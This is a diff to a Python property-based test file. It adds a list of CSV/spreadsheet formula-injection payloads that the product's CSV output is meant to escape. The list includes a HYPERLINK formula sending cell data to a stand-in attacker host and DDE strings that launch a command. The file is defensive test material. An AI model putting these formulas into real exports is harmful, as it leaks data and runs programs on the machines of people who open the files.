@@ -118,6 +118,16 @@ def make_plan_request(**kwargs: Any) -> PlanRequest:
 # --- Strategies -----------------------------------------------------------------------------------
 
 # Hours: the E2/X5 two-day edge (48 and just past it) and the F4 few-hours edge, besides any value.
+# Spreadsheet formula attacks (OWASP's CSV injection) that every CSV the product writes must escape.
+FORMULA_PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
+
 EDGE_HOURS = [0, 0.0, 1, 5.9999, 6, 12, 24, 36, 47.9999, 48, 48.0, 48.0001, 49, 72, 500]
 hours = st.one_of(
     st.sampled_from(EDGE_HOURS),
